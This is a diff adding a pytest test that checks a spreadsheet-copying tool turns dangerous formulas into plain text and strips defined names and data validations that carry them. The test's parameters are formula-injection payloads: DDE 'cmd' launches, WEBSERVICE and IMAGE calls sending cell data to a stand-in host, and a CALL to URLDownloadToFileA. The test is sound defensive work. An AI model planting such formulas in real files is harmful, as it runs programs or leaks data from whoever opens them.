@@ -118,6 +118,44 @@ def test_a_comment_is_kept_and_formulas_are() -> None:
     assert book["techniques"]["B4"].value == "=1+1"
 
 
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=cmd|'/c calc'!A0",
+        "=CMD.EXE |'/c calc'!A0",
+        "='cmd'|'/c calc'!A0",
+        '=WEBSERVICE("http://a.example/"&A1)',
+        '=IF(1,_xlfn.WebService ("http://a.example/"),2)',
+        '=IMAGE("http://a.example/")',
+        '=RTD("a.b",,"c")',
+        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"a","b",0,0)',
+        "=[1]Sheet1!A1",
+        "='[1]Sheet 1'!A1",
+    ],
+)
+def test_a_formula_that_reaches_out_becomes_a_text(formula: str) -> None:
+    from openpyxl.workbook.defined_name import DefinedName
+    from openpyxl.worksheet.datavalidation import DataValidation
+    from openpyxl.worksheet.formula import ArrayFormula
+
+    book = sample()
+    sheet = book["techniques"]
+    sheet["G2"] = formula
+    sheet["G3"] = ArrayFormula("G3:G4", formula)
+    sheet["G5"] = "=SUM(Table1[2019],A1:A2)"
+    book.defined_names["evil"] = DefinedName("evil", attr_text=formula[1:])
+    sheet.data_validations.append(DataValidation("list", formula1=formula[1:], sqref="G6"))
+    copied = copy_of(finding("B2", "wrong"), data=book_bytes(book))
+    for ref in ("G2", "G3"):
+        cell = copied["techniques"][ref]
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
+    assert copied["techniques"]["G5"].data_type == "f"
+    assert list(copied.defined_names) == []
+    assert not copied["techniques"].data_validations.dataValidation
+    told = [str(row[0].value) for row in copied.worksheets[0].iter_rows(max_row=8)]
+    assert any("formulas that start a program, load code or ask a server" in text for text in told)
+
+
 def test_a_merged_cell_is_marked_where_it_shows() -> None:
     book = copy_of(finding("D2", "wrong"))
     assert "wrong" in note(book, "C1")
